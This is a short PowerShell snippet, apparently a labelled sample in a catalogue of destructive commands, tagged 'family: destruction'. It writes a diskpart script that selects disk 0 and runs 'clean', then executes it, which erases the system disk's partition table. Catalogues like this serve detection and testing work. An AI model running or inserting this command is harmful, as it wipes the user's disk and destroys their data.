# description: Feeds select disk 0 and clean to diskpart, erasing the partition table.
# family: destruction
"select disk 0`r`nclean`r`nexit" | Out-File -FilePath "$env:TEMP\dp.txt" -Encoding ascii
diskpart /s "$env:TEMP\dp.txt"
